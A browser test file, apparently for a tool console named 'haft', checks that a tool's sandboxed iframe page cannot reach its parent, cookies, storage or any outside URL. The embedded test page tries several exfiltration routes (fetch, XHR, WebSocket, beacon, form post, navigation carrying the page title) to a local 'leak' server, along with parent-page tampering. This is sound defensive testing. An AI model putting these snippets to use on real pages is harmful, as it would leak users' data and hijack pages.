// A tool's own page in its frame: it is shown and its script runs, but the script reaches neither the page around it, nor
// cookies, nor any URL. An unavailable page is explained in words. None of it is a call.

import http from "node:http";
import { accessible, assert, fs, path, play, until, visit, watch } from "./stage.mjs";

/** A server to which a page might send what it knows. */
const heard = [];
const outside = http.createServer((request, response) => {
  heard.push(request.url);
  response.setHeader("access-control-allow-origin", "*");
  response.end("heard");
});
await new Promise((resolve) => outside.listen(0, "127.0.0.1", resolve));
const leak = `http://127.0.0.1:${outside.address().port}`;

const page = `<!doctype html><title>t</title><style>h1 { color: rgb(1, 2, 3) }</style>
<link rel="stylesheet" href="${leak}/style"><link rel="prefetch" href="${leak}/prefetch"><link rel="preconnect" href="${leak}">
<h1>Figures of the tool</h1><ul id="log"></ul>
<img src="${leak}/img"><script src="${leak}/script"></script><iframe src="${leak}/frame"></iframe><object data="${leak}/object"></object>
<form id="form" method="post" action="${leak}/form"><input name="a"></form>
<script>
const log = (name, word) => { document.getElementById("log").append(Object.assign(document.createElement("li"), { textContent: name + ": " + word })); };
const attempt = async (name, act) => {
  try { log(name, (await act()) === null ? "refused" : "done"); } catch { log(name, "refused"); }
};
(async () => {
  log("origin", self.origin);
  await attempt("parent", () => { parent.document.title = "hacked"; });
  await attempt("global", () => { parent.hacked = 1; });
  await attempt("top", () => { top.location.href = "${leak}/top"; });
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("databases", () => { indexedDB.open("a"); });
  await attempt("fetch", () => fetch("${leak}/fetch"));
  await attempt("no-cors", () => fetch("${leak}/no-cors", { mode: "no-cors" }));
  await attempt("api", () => fetch("/api/v1/approvals", { credentials: "include" }));
  await attempt("xhr", () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open("GET", "${leak}/xhr"); x.send(); }));
  await attempt("socket", () => new Promise((resolve, reject) => { const s = new WebSocket("${leak.replace("http", "ws")}/socket"); s.onopen = resolve; s.onerror = reject; }));
  await attempt("popup", () => window.open("${leak}/popup"));
  await attempt("worker", () => new Promise((resolve, reject) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = resolve; w.onerror = reject; }));
  await attempt("import", () => import("${leak}/import"));
  navigator.sendBeacon("${leak}/beacon", "a");
  document.getElementById("form").submit();
  parent.postMessage({ hacked: 1 }, "*");
  log("all", "tried");
})();
</script>`;
const wanderer = `<!doctype html><p>off we go</p><script>location.href = "${leak}/navigated?" + encodeURIComponent(document.title);</script>`;

const pages = {
  "chart.html": page, "wanderer.html": wanderer, "plain.txt": "words",
  "big.html": "x".repeat(1024 * 1024 + 1), "gone.html": "here for now", "bytes.html": Buffer.from([0x3c, 0xff, 0xfe]),
};
// Only the refusals of the frame's own document, and the errors for unavailable pages.
const expected = [/\/api\/v1\/tools\/\w+\/ui/, /Framing '?http:\/\/127\.0\.0\.1:\d+\/'? violates/, new RegExp(`frame '?${leak}`), new RegExp(leak)];

try {
  await play({ pages, expected }, async ({ server, page: console_, context }) => {
    const open = async (tool) => {
      await visit(console_, server, `/tools/${tool}`);
      await console_.getByText("The tool's own page").click();
    };
    const frame = console_.locator("iframe.interface");
    const inside = console_.frameLocator("iframe.interface");

    // It is shown, and its script ran to its end.
    await open("chart");
    await inside.getByRole("heading", { name: "Figures of the tool" }).waitFor();
    await inside.getByText("all: tried").waitFor();
    assert.equal(await inside.locator("h1").evaluate((h1) => getComputedStyle(h1).color), "rgb(1, 2, 3)");
    assert.equal(await frame.getAttribute("sandbox"), "allow-scripts");
    const said = await inside.locator("#log li").allTextContents();
    const tried = ["parent", "global", "top", "cookie", "storage", "databases", "fetch", "no-cors", "api", "xhr", "socket", "popup", "worker", "import"];
    assert.deepEqual(said, ["origin: null", ...tried.map((name) => `${name}: refused`), "all: tried"]);
    assert.equal(await console_.evaluate(() => window.hacked), undefined);
    assert.match(await console_.title(), /Tools · haft/);
    assert.equal(new URL(console_.url()).pathname, "/tools/chart");
    await accessible(console_, "a tool with its page");

    // It cannot navigate elsewhere either, with what it knows in the URL.
    await open("wanderer");
    await frame.waitFor();
    await until("the frame is refused elsewhere", async () => {
      const there = console_.frames().find((one) => one !== console_.mainFrame());
      return there && !(await there.locator("body").innerText().catch(() => "")).includes("off we go");
    });

    // In a tab of its own it could navigate anywhere, so it is not shown there. The headers of the frame's response confine it.
    const tab = await context.newPage();
    // A refusal names no icon, so the browser requests the default one.
    watch(tab, [...expected, /favicon\.ico/]);
    const address = `${server.url}/api/v1/tools/chart/ui/page`;
    const ticket = () => console_.evaluate(async (path) => {
      const headers = { "x-haft-console": localStorage.getItem("haft-secret") };
      return (await (await fetch("/api/v1/tickets", { method: "POST", headers, body: JSON.stringify({ path }) })).json()).ticket;
    }, new URL(address).pathname);
    assert.equal((await tab.goto(address)).status(), 401);
    assert.equal((await tab.goto(`${address}?ticket=${await ticket()}`)).status(), 403);
    await tab.close();
    // The URL is used up, even if the page itself reveals it.
    const used = await frame.getAttribute("src");
    assert.match(used, /ticket=[0-9a-f]{64}$/);
    assert.equal((await context.request.get(server.url + used)).status(), 401);
    const answer = await context.request.get(`${address}?ticket=${await ticket()}`);
    assert.equal(answer.status(), 200);
    assert.match(answer.headers()["content-security-policy"], /^sandbox allow-scripts; default-src 'none';.* frame-ancestors 'self'$/);
    assert.equal(answer.headers()["content-type"], "text/html; charset=utf-8");

    // Unavailable pages are explained.
    fs.rmSync(path.join(server.pages, "gone.html"));
    for (const [tool, words] of [["big", "larger than 1 MiB"], ["plain", "is `text/plain`, not `text/html`"], ["gone", "the page is gone"], ["bytes", "is not UTF-8"]]) {
      await open(tool);
      await console_.getByRole("alert").filter({ hasText: words }).waitFor();
      assert.equal(await frame.count(), 0);
    }
    await visit(console_, server, "/tools/read_file");
    await console_.getByText("policy verdict").waitFor();
    assert.equal(await console_.getByText("The tool's own page").count(), 0);

    // Only the operator may see it, and none of it was a call.
    for (const route of ["/tools/chart/ui", "/tools/chart/ui/page"]) {
      assert.equal((await server.api("GET", route, undefined, server.token)).status, 403);
      assert.equal((await server.api("GET", route, undefined, "0".repeat(64))).status, 401);
    }
    assert.equal((await server.api("GET", "/tools/read_file/ui")).status, 404);
    assert.deepEqual((await server.api("GET", "/runs")).value, []);
    assert.deepEqual(heard, [], "somebody outside heard of it");
  });
} finally {
  outside.close();
  outside.closeAllConnections();
}
